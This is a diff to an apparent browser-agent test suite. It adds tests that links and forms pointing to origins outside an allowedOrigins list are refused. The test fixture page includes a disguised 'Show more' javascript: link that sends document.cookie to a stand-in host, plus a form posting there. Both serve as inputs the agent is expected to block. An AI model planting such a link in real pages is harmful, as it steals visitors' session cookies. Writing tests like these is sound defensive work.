@@ -34,6 +34,14 @@ beforeAll(async () => {
   for (const testCase of [...RISKY_CASES, ...ORDINARY_CASES]) {
     web.route(`/case/${testCase.id}.html`, { body: `<!doctype html><meta charset=utf-8><title>${testCase.id}</title><script src="/agent-bundle.js"></script><body>${testCase.html}${RECORDER}</body>` });
   }
+  web.route('/origins.html', {
+    body: `<!doctype html><meta charset=utf-8><title>Origins</title><script src="/agent-bundle.js"></script><body>
+      <a id=partner href="https://partner.test/deal">Partner deal</a>
+      <a id=elsewhere href="https://elsewhere.test/deal">Other deal</a>
+      <a id=script-elsewhere href="javascript:location.assign('https://elsewhere.test/x?d='+document.cookie)">Show more</a>
+      <form action="https://elsewhere.test/collect"><input id=form-elsewhere name=q aria-label=Search></form>
+      <a id=same-site href="/help">Help</a>${RECORDER}</body>`,
+  });
   llm.setHandler((request) => {
     const action = firstAction.get(request.body.model);
     const user = request.body.messages.find((m: { role: string }) => m.role === 'user').content as string;
@@ -143,6 +151,61 @@ describe('a target that changes after the decision', () => {
     expect(outcome.acted).toEqual([]);
     expect(outcome.output).toBe('Not run: the target changed after the decision (now it posts a form to “/api/charge”); read the page again.');
     expect(errors).toEqual([]);
+    await context.close();
+  });
+});
+
+describe('allowedOrigins (#15)', () => {
+  it('refuses links and forms to other origins not in the list, whatever approveAction says, and lets the rest run', async () => {
+    const { context, page, errors } = await openPage();
+    await page.goto(web.url('/origins.html'));
+    await page.evaluate(async () => {
+      (window as any).controller = new (window as any).AgentLib.PageController({ enableMask: false });
+      await (window as any).controller.getBrowserState();
+    });
+    const outcomes: Record<string, { output: string; acted: string[] }> = {};
+    for (const id of ['partner', 'elsewhere', 'script-elsewhere', 'form-elsewhere', 'same-site']) {
+      const index = await page.evaluate((id) => {
+        (window as any).acted = [];
+        document.querySelector('[data-t]')?.removeAttribute('data-t');
+        document.getElementById(id)!.setAttribute('data-t', '');
+        return (window as any).controller.registry.indexOf(document.getElementById(id));
+      }, id);
+      firstAction.set(`origins-${id}`, id === 'form-elsewhere' ? { press_key: { index, key: 'Enter' } } : { click_element_by_index: { index } });
+      outcomes[id] = await page.evaluate(
+        async ({ baseURL, model }) => {
+          const lib = (window as any).AgentLib;
+          const agent = new lib.PageAgentCore({ baseURL, model, retryDelay: 10, maxSteps: 2, allowedOrigins: ['https://partner.test'], pageController: (window as any).controller });
+          const result = await agent.execute('Go.');
+          return { output: result.history.find((e: any) => e.type === 'step').action.output, acted: (window as any).acted };
+        },
+        { baseURL: llm.baseURL, model: `origins-${id}` },
+      );
+    }
+    for (const id of ['elsewhere', 'script-elsewhere', 'form-elsewhere']) {
+      expect(outcomes[id]!.acted, id).toEqual([]);
+      expect(outcomes[id]!.output, id).toBe('Not run: it opens https://elsewhere.test, not in allowedOrigins.');
+    }
+    for (const id of ['partner', 'same-site']) expect(outcomes[id]!.acted, id).toContain('click');
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+
+  it('is checked when the agent is created: a path or a bare host is refused by name', async () => {
+    const { context, page } = await openPage();
+    await page.goto(web.url('/origins.html'));
+    const messages = await page.evaluate(() => {
+      const lib = (window as any).AgentLib;
+      return [['https://partner.test/shop'], ['partner.test'], 'https://partner.test'].map((allowedOrigins) => {
+        try {
+          new lib.PageAgentCore({ baseURL: 'http://x.test', model: 'm', allowedOrigins, pageController: new lib.PageController({}) });
+          return 'accepted';
+        } catch (error) {
+          return (error as Error).message;
+        }
+      });
+    });
+    for (const message of messages) expect(message).toMatch(/allowedOrigins/);
     await context.close();
   });
 });
